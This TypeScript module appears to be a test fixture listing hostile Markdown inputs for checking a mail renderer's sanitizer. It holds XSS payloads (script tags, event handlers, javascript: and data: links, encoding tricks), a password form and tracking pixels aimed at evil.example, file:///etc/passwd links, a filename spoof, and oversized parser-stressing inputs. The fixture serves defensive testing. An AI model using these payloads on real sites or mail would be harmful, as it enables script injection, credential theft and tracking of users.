/** A text in Markdown that tries to bring something into a mail that runs, or is fetched. */
export interface HostileMarkdown {
  name: string;
  source: string;
  /** What a reader sees of it; not given: no matter what. */
  shows?: string;
}

const long = (unit: string, times: number): string => unit.repeat(times);

/** Nested lists, each within the one above. */
function nested(depth: number): string {
  return Array.from({ length: depth }, (_, at) => `${"  ".repeat(at)}- item`).join("\n");
}

const RAW_HTML: Record<string, string> = {
  "a script": "<script>alert(1)</script>",
  "a script in a paragraph": "Hi <script>alert(1)</script> there",
  "a script over many lines": "<script>\n\nalert(1)\n\n</script>",
  "a picture with a handler": '<img src="x" onerror="alert(1)">',
  "an svg with a handler": "<svg onload=alert(1)></svg>",
  "a frame": '<iframe src="https://evil.example"></iframe>',
  "a form": '<form action="https://evil.example"><input name="password"></form>',
  "a style sheet": "<style>@import url(https://evil.example/a.css);</style>",
  "a link in HTML": '<a href="javascript:alert(1)">here</a>',
  "a block with a paragraph in it": "<div onclick=alert(1)>\n\ntext\n\n</div>",
  "a comment": "<!-- <script>alert(1)</script> -->",
  "a processing instruction": "<?php echo 1 ?>",
  "a CDATA section": "<![CDATA[<script>alert(1)</script>]]>",
  "a declaration": "<!DOCTYPE html><html><body onload=alert(1)>",
  "a closing of the page": "</div></body></html><script>alert(1)</script>",
  "a redirect": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  "a base": '<base href="https://evil.example/">',
  "an unclosed tag": '<img src=x onerror="alert(1)" ',
};

const SCRIPT_LINKS: Record<string, string> = {
  "javascript:": "[here](javascript:alert(1))",
  "javascript: in mixed case": "[here](JaVaScRiPt:alert(1))",
  "javascript: in angle brackets": "[here](<javascript:alert(1)>)",
  "javascript: with a title": "[here](javascript:alert(1) 'title')",
  "javascript: behind an entity for the colon": "[here](javascript&colon;alert(1))",
  "javascript: in decimal entities": "[here](&#106;avascript:alert(1))",
  "javascript: in hexadecimal entities": "[here](&#x6A;avascript:alert(1))",
  "javascript: with an escaped colon": "[here](javascript\\:alert(1))",
  "javascript: with an encoded colon": "[here](javascript%3Aalert(1))",
  "javascript: behind a space": "[here]( javascript:alert(1))",
  "javascript: behind a no-break space": "[here](\u00a0javascript:alert(1))",
  "javascript: behind a control character": "[here](\u0001javascript:alert(1))",
  "javascript: with a tab in it": "[here](java&Tab;script:alert(1))",
  "javascript: with a line break in it": "[here](java&NewLine;script:alert(1))",
  "javascript: with two slashes": "[here](javascript://example.com/%0Aalert(1))",
  "vbscript:": "[here](vbscript:msgbox(1))",
  "data: with HTML": "[here](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "data: with a picture": "[here](data:image/svg+xml,%3Csvg%20onload=alert(1)%3E)",
  "file:": "[here](file:///etc/passwd)",
  "blob:": "[here](blob:https://example.com/1)",
  "no protocol": "[here](//evil.example/login)",
  "a path": "[here](/login)",
  "a reference": "[here][1]\n\n[1]: javascript:alert(1)",
  "a reference in angle brackets": "[here][1]\n\n[1]: <javascript:alert(1)> 'title'",
  "a collapsed reference": "[here][]\n\n[here]: data:text/html,hi",
  "a shortcut reference": "[here]\n\n[here]: vbscript:msgbox(1)",
  "a reference in a quote": "[here]\n\n> [here]: javascript:alert(1)",
  "a link within a link": "[a [here](javascript:alert(1)) b](javascript:alert(2))",
  "a link that is bold": "**[here](javascript:alert(1))**",
  "a link in a heading": "# [here](javascript:alert(1))",
  "a link in a list": "- [here](javascript:alert(1))\n- two",
  "a link in a quote": "> [here](javascript:alert(1))",
};

const AUTOLINKS: Record<string, string> = {
  "javascript:": "<javascript:alert(1)>",
  "data:": "<data:text/html,hi>",
  "vbscript:": "<vbscript:msgbox(1)>",
  "javascript: in mixed case": "<JavaScript:alert(1)>",
};

const ATTRIBUTES: Record<string, string> = {
  "a quote in a target": '[here](https://a.example/"onclick="alert(1))',
  "a quote in a target in angle brackets": '[here](<https://a.example/" onclick="alert(1)>)',
  "a quote in an entity": "[here](https://a.example/&quot;onclick=&quot;alert(1))",
  "brackets in a target": "[here](https://a.example/<script>alert(1)</script>)",
  "a title with quotes": '[here](https://a.example "a\\" onclick=\\"alert(1)")',
  "a title with a tag": "[here](https://a.example '<script>alert(1)</script>')",
  "a title in parentheses": '[here](https://a.example (" onclick="alert(1)))',
  "a reference's title": "[here]\n\n[here]: https://a.example '\"><script>alert(1)</script>'",
  "a bare address with a quote": 'See https://a.example/"onclick="alert(1) now',
  "a bare address with a tag": "See https://a.example/<script>alert(1)</script> now",
  "an autolink with a quote": '<https://a.example/"onclick="alert(1)>',
  "an autolink of a mail address": '<a"onclick="alert(1)@a.example>',
  "attributes in braces": "[here](https://a.example){onclick=alert(1)}",
  "attributes of a heading": "# Title {#id onclick=alert(1) .class}",
  "a language of a code block": '```"><script>alert(1)</script>\ncode\n```',
  "the number of a list": '1" onclick="alert(1). one',
};

const PICTURES: Record<string, string> = {
  "from the network": "![logo](https://evil.example/pixel.png)",
  "without a protocol": "![logo](//evil.example/pixel.png)",
  "from javascript:": "![logo](javascript:alert(1))",
  "from data: as svg": "![logo](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "from data: as png": "![logo](data:image/png;base64,iVBORw0KGgo=)",
  "from a file": "![logo](file:///etc/passwd)",
  "by a reference": "![logo][1]\n\n[1]: https://evil.example/pixel.png",
  "with a handler in its source": '![logo](x"onerror="alert(1))',
  "with a handler in its text": '![logo" onerror="alert(1)](logo.png)',
  "with a tag in its text": "![<script>alert(1)</script>](logo.png)",
  "with a title": '![logo](logo.png "a\\" onerror=\\"alert(1)")',
  "with a link in its text": "![[logo](javascript:alert(1))](logo.png)",
  "in a link": "[![logo](https://evil.example/pixel.png)](https://a.example)",
  "in a link to javascript:": "[![logo](logo.png)](javascript:alert(1))",
  "in a table": "| a |\n|---|\n| ![logo](https://evil.example/pixel.png) |",
};

const STRUCTURES: Record<string, string> = {
  "HTML in a code block": "```html\n<script>alert(1)</script>\n```",
  "HTML in an unclosed code block": "~~~\n<script>alert(1)</script>",
  "HTML in an indented block": "    <script>alert(1)</script>",
  "HTML in code": "Use `<script>alert(1)</script>` here",
  "HTML in a table":
    "| <b onclick=alert(1)>a</b> | b |\n|---|---|\n| <script>alert(1)</script> | d |",
  "a link in a table": "| a | b |\n|:--|--:|\n| [here](javascript:alert(1)) | `<i>` |",
  "a style in a table's head": '| a |\n|:-:" onclick="alert(1)|\n| b |',
  "HTML in a heading": "## <img src=x onerror=alert(1)>",
  "HTML in a list": "1. <img src=x onerror=alert(1)>\n2. <script>alert(1)</script>",
  "HTML in a quote": "> <script>alert(1)</script>",
  "entities of a tag": "&lt;script&gt;alert(1)&lt;/script&gt;",
  "numeric entities of a tag": "&#60;script&#62;alert(1)&#x3c;/script&#x3E;",
  "entities of nothing": "a &#0; b &#xD800; c &#x110000; d &unknown; e",
  "an escaped tag": "\\<script\\>alert(1)\\</script\\>",
  "a definition of nothing": "[a]:\n<script>alert(1)</script>",
  "marks that cross": "**a _b** [c_](https://a.example) `d** e`",
  "a NUL and other controls": "a\u0000b\u0007c\u001bd\u007f",
  "a text that turns around": "Invoice \u202egnp.exe\u202c and \u200bhidden",
};

const LARGE: Record<string, string> = {
  "a long word": long("a", 100_000),
  "a long target": `[here](https://a.example/${long("a", 50_000)})`,
  "many brackets": long("[", 10_000),
  "many links that don't close": long("[here](", 5_000),
  "many pictures that don't close": long("![", 5_000),
  "many stars": long("*a ", 10_000),
  "many angle brackets": long("<", 20_000),
  "many backticks": `${long("`", 1_000)}a${long("`", 999)}`,
  "many quotes in quotes": `${long("> ", 1_000)}deep`,
  "many lists in lists": nested(200),
  "many columns": `${long("|a", 500)}|\n${long("|-", 500)}|\n${long("|<b>", 500)}|`,
  "many definitions": `${long("[here]: javascript:alert(1)\n", 2_000)}\n[here]`,
};

export const HOSTILE_MARKDOWN: readonly HostileMarkdown[] = [
  ...Object.entries(RAW_HTML).map(([name, source]) => ({
    name: `raw HTML: ${name}`,
    source,
    shows: source,
  })),
  ...Object.entries(SCRIPT_LINKS).map(([name, source]) => ({
    name: `a link: ${name}`,
    source,
    shows: "here",
  })),
  ...Object.entries(AUTOLINKS).map(([name, source]) => ({
    name: `an autolink: ${name}`,
    source,
    shows: source,
  })),
  ...Object.entries(ATTRIBUTES).map(([name, source]) => ({ name: `attributes: ${name}`, source })),
  ...Object.entries(PICTURES).map(([name, source]) => ({ name: `a picture: ${name}`, source })),
  ...Object.entries(STRUCTURES).map(([name, source]) => ({ name: `structure: ${name}`, source })),
  ...Object.entries(LARGE).map(([name, source]) => ({ name: `size: ${name}`, source })),
];
